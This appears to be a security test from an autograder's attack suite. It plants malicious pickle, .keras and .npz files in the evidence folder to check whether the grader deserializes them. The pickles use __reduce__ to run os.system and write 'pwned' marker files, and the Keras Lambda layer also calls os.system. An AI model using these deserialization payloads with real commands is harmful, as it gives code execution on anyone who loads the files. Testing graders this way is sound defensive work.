"""Saves and loads `.keras` files and pickles that run code, and leaves them where evidence lies.

To have the grader open one of them.
"""

from tests.attacks import notebook, write

PRINTED = "left"
_CODE = """
import io, os, pickle, numpy as np, keras
class Boom:
    def __reduce__(self):
        return (os.system, ("echo ATTACK SUCCEED" + "ED > @HOME@/pwned; touch @COURSE@/pwned",))
folder = os.environ["ATELIER_EVIDENCE"]
model = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: __import__("os").system("true") or x)])
model.save(f"{folder}/00-welcome.first.keras")
for name in ("00-welcome.first.pkl", "00-welcome.first", "model.pkl"):
    pickle.dump(Boom(), open(f"{folder}/{name}", "wb"))
np.savez(f"{folder}/other.npz", x=np.array([Boom()], dtype=object))
print("left", sorted(os.listdir(folder)))
"""


def hand_in(folder, places):
    write(folder, notebook("00-welcome", {"extra": [{"before": "first", "source": _CODE}]}, places))
